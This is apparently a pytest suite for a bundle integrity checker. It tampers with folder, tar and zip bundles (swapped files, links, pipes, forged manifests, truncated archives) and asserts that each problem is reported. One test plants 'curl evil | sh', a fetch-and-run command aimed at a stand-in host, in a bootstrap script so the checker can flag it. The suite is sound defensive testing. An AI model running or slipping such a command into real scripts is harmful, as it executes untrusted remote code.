"""``provision bundle --check`` against bundles damaged or forged after they were
written: folders, .tar.gz and .zip. Every file that is not byte-for-byte the one the
manifest lists (changed, missing, extra, a link or a pipe in its place) is named, the
manifest itself is held to SHA256SUMS, and a manifest of the wrong shape is one line
(exit 1 or 2), never exit 3 and never a hang."""

from __future__ import annotations

import hashlib
import io
import json
import os
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from provisioner.bundle.archive import check, write
from provisioner.bundle.build import Contents, generated, seal
from provisioner.cli import main
from provisioner.errors import ProvisionError
from provisioner.profile import default_profile_path, load_profile

TOP = "demo-linux-64"
Members = list[tuple[tarfile.TarInfo, bytes]]
Edit = Callable[[tarfile.TarInfo, bytes], Members]


def small_contents(work: Path) -> Contents:
    resolved = load_profile(default_profile_path())
    entries = [
        generated(work, "bootstrap.sh", b"#!/bin/sh\necho hi\n", executable=True),
        generated(work, "wheels/a-1.0-py3-none-any.whl", b"PK wheel bytes" * 50),
        generated(work, "render/check.sh", b"#!/bin/sh\nexit 0\n", executable=True),
        generated(work, "profile.yaml", b"name: demo\n"),
    ]
    return seal(TOP, "linux-64", resolved, entries, work)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A folder bundle; returns its top-level folder (the one with manifest.json)."""
    return write(small_contents(tmp_path / "work"), tmp_path / "out")


def _changed(top: Path) -> None:
    (top / "render" / "check.sh").write_text("#!/bin/sh\nexit 1\n")


def _missing(top: Path) -> None:
    (top / "wheels" / "a-1.0-py3-none-any.whl").unlink()


def _extra(top: Path) -> None:
    (top / "wheels" / "evil-1.0-py3-none-any.whl").write_bytes(b"PK")


def _symlink_same_bytes(top: Path) -> None:
    """The listed bytes, but through a link the bundle's author never wrote: a link can
    point anywhere once the bundle is copied, so it is not the file the manifest lists."""
    target = top.parent / "elsewhere.sh"
    target.write_bytes((top / "bootstrap.sh").read_bytes())
    (top / "bootstrap.sh").unlink()
    (top / "bootstrap.sh").symlink_to(target)


def _fifo_extra(top: Path) -> None:
    os.mkfifo(top / "render" / "pipe")


def _link_to_dev_zero(top: Path) -> None:
    (top / "wheels" / "zero.whl").symlink_to("/dev/zero")


def _sums_missing(top: Path) -> None:
    (top / "SHA256SUMS").unlink()


def _manifest_forged(top: Path) -> None:
    """A changed script and a manifest edited to match it, SHA256SUMS left alone."""
    _changed(top)
    manifest = json.loads((top / "manifest.json").read_text())
    for f in manifest["files"]:
        if f["path"] == "render/check.sh":
            f["sha256"] = hashlib.sha256((top / "render" / "check.sh").read_bytes()).hexdigest()
    (top / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n")


@pytest.mark.parametrize(
    ("damage", "problems"),
    [
        (_changed, ["render/check.sh: sha256 differs from the manifest"]),
        (_missing, ["wheels/a-1.0-py3-none-any.whl: missing"]),
        (_extra, ["wheels/evil-1.0-py3-none-any.whl: not in the manifest"]),
        (_symlink_same_bytes, ["bootstrap.sh: sha256 differs from the manifest"]),
        (_fifo_extra, ["render/pipe: not in the manifest"]),
        (_link_to_dev_zero, ["wheels/zero.whl: not in the manifest"]),
        (_sums_missing, ["SHA256SUMS: missing"]),
        (_manifest_forged, ["SHA256SUMS: does not match the manifest"]),
    ],
)
def test_a_damaged_folder_bundle_names_each_problem(
    folder: Path, damage: Callable[[Path], None], problems: list[str]
) -> None:
    assert check(folder).problems == ()
    damage(folder)
    assert list(check(folder).problems) == problems


def test_the_check_finds_the_top_folder_inside_the_output_folder(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["bundle", "--check", str(folder.parent)]) == 0
    assert capsys.readouterr().out.startswith(f"ok: {folder.parent} ({TOP}): 6 files")
    _changed(folder)
    assert main(["bundle", "--check", str(folder.parent)]) == 1
    err = capsys.readouterr().err.splitlines()
    assert err[-1] == (
        f"provision: error: {folder.parent}: 1 problem(s) in 6 files "
        "(fix: copy the bundle again, or re-bundle)"
    )


def repack_tar(
    src: Path,
    dst: Path,
    edit: Edit,
) -> Path:
    """Copy a .tar.gz member by member through ``edit`` (which may drop, change or add)."""
    with tarfile.open(src, "r:gz") as old, tarfile.open(dst, "w:gz") as new:
        for member in old.getmembers():
            f = old.extractfile(member) if member.isfile() else None
            data = f.read() if f is not None else b""
            for info, body in edit(member, data):
                new.addfile(info, io.BytesIO(body) if info.isfile() else None)
    return dst


def _as_file(info: tarfile.TarInfo, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    info.size = len(data)
    return info, data


def tar_symlink(member: tarfile.TarInfo, data: bytes) -> Members:
    if member.name == f"{TOP}/bootstrap.sh":
        link = tarfile.TarInfo(member.name)
        link.type, link.linkname = tarfile.SYMTYPE, "/bin/sh"
        return [(link, b"")]
    return [(member, data)]


def tar_hardlink_extra(member: tarfile.TarInfo, data: bytes) -> Members:
    out = [(member, data)]
    if member.name == f"{TOP}/bootstrap.sh":
        link = tarfile.TarInfo(f"{TOP}/render/run.sh")
        link.type, link.linkname = tarfile.LNKTYPE, member.name
        out.append((link, b""))
    return out


def tar_changed(member: tarfile.TarInfo, data: bytes) -> Members:
    if member.name == f"{TOP}/profile.yaml":
        return [_as_file(member, b"name: evil\n")]
    return [(member, data)]


def tar_dropped(member: tarfile.TarInfo, data: bytes) -> Members:
    return [] if member.name == f"{TOP}/render/check.sh" else [(member, data)]


@pytest.mark.parametrize(
    ("edit", "problems"),
    [
        (tar_symlink, [f"{TOP}/bootstrap.sh: sha256 differs from the manifest"]),
        (tar_hardlink_extra, [f"{TOP}/render/run.sh: not in the manifest"]),
        (tar_changed, [f"{TOP}/profile.yaml: sha256 differs from the manifest"]),
        (tar_dropped, [f"{TOP}/render/check.sh: missing"]),
    ],
)
def test_a_repacked_tar_bundle_names_each_problem(
    tmp_path: Path,
    edit: Edit,
    problems: list[str],
) -> None:
    good = write(small_contents(tmp_path / "work"), tmp_path / "b.tar.gz")
    assert check(good).problems == ()
    bad = repack_tar(good, tmp_path / "bad.tar.gz", edit)
    assert list(check(bad).problems) == problems


def test_a_zip_bundle_with_a_replaced_member_is_named(tmp_path: Path) -> None:
    good = write(small_contents(tmp_path / "work"), tmp_path / "b.zip")
    bad = tmp_path / "bad.zip"
    with zipfile.ZipFile(good) as old, zipfile.ZipFile(bad, "w") as new:
        for info in old.infolist():
            data = old.read(info)
            if info.filename == f"{TOP}/bootstrap.sh":
                data = b"#!/bin/sh\ncurl evil | sh\n"
            new.writestr(info, data)
        new.writestr(f"{TOP}/extra.txt", b"x")
    assert list(check(bad).problems) == [
        f"{TOP}/bootstrap.sh: sha256 differs from the manifest",
        f"{TOP}/extra.txt: not in the manifest",
    ]


@pytest.mark.parametrize("cut", [10, 200, -100])
def test_a_truncated_archive_is_one_line_exit_1(
    tmp_path: Path, cut: int, capsys: pytest.CaptureFixture[str]
) -> None:
    for name in ("b.tar.gz", "b.zip"):
        good = write(small_contents(tmp_path / name), tmp_path / name / name)
        data = good.read_bytes()
        good.write_bytes(data[:cut])
        assert main(["bundle", "--check", str(good)]) == 1
        err = capsys.readouterr().err.strip().splitlines()
        assert len(err) == 1 and err[0].startswith(f"provision: error: {good}: ")


def _manifest(**changes: object) -> Callable[[Path], None]:
    def rewrite(top: Path) -> None:
        doc = json.loads((top / "manifest.json").read_text())
        doc.update(changes)
        (top / "manifest.json").write_text(json.dumps(doc))

    return rewrite


def _manifest_bytes(data: bytes) -> Callable[[Path], object]:
    return lambda top: (top / "manifest.json").write_bytes(data)


@pytest.mark.parametrize(
    "damage",
    [
        _manifest(files="render/check.sh"),
        _manifest(files=[{"path": "bootstrap.sh"}]),
        _manifest(files=[{"sha256": "0" * 64}]),
        _manifest(files=[["bootstrap.sh", "0" * 64]]),
        _manifest(files=[{"path": 7, "sha256": None}]),
        _manifest(files=None),
        _manifest(schema="provision-bundle/9"),
        _manifest_bytes(b"[" * 100_000),
        _manifest_bytes(b"\xff\xfe{}"),
        _manifest_bytes(b"[]"),
    ],
    ids=[
        "files-a-string",
        "entry-without-sha256",
        "entry-without-path",
        "entry-a-list",
        "entry-wrong-types",
        "files-null",
        "future-schema",
        "deep",
        "not-utf8",
        "a-list",
    ],
)
def test_a_manifest_of_the_wrong_shape_is_one_line_never_a_crash(
    folder: Path, damage: Callable[[Path], object], capsys: pytest.CaptureFixture[str]
) -> None:
    damage(folder)
    code = main(["bundle", "--check", str(folder)])
    err = capsys.readouterr().err.strip().splitlines()
    assert code in (1, 2), err
    assert err and all(line.startswith("provision: error: ") for line in err)
    assert not any("internal error" in line for line in err)


def test_what_is_not_a_bundle_is_exit_2(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    with pytest.raises(ProvisionError, match="not a bundle") as e:
        check(tmp_path / "empty")
    assert e.value.exit_code == 2
    with pytest.raises(ProvisionError, match="no such bundle"):
        check(tmp_path / "nope.tar.gz")


@pytest.mark.parametrize(
    "damage",
    [
        _manifest(top=None),
        _manifest(platform=["linux-64"]),
        _manifest(environment=""),
        _manifest_bytes(b"[" * 100_000),
        _manifest_bytes(b"\xff\xfe{}"),
    ],
    ids=["no-top", "platform-a-list", "empty-environment", "deep", "not-utf8"],
)
def test_the_bundles_own_bootstrap_refuses_such_a_manifest_in_one_line(
    folder: Path, damage: Callable[[Path], object], capsys: pytest.CaptureFixture[str]
) -> None:
    """The bootstrap scripts run ``provisioner.bundle.install`` from the bundle."""
    from provisioner.bundle.install import main as bootstrap

    damage(folder)
    assert bootstrap(["--bundle", str(folder)]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith(f"bootstrap: error: {folder / 'manifest.json'}: ")
